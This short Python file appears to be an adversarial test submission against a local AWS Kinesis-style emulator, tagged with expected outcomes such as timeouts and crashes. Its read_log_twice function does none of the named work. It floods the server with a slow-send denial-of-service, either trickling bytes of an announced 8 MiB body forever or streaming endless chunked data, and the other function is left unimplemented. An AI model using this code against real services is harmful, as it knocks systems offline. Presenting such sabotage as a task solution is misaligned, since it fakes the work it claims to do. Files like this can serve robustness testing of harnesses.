# /// attack
# outcomes = ["timed_out", "crashed", "unimplemented"]
# says = "read_log_twice()"
# ///
"""Announces 8 MiB and sends them a byte at a time; or sends chunks without end."""

import select
import socket

HEAD = b"POST / HTTP/1.1\r\nHost: x\r\nX-Amz-Target: Kinesis_20131202.PutRecords\r\n"


def read_queue_twice(queue_name, messages):
    raise NotImplementedError


def read_log_twice(stream_name, messages):
    connection = socket.create_connection(("127.0.0.1", 4566))
    if len(messages) >= 12:
        connection.sendall(HEAD + b"Content-Length: 8388608\r\n\r\n{")
        while True:
            connection.sendall(b" ")
            select.select([], [], [], 0.05)
    connection.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        connection.sendall(b"ffff\r\n" + b" " * 0xFFFF + b"\r\n")
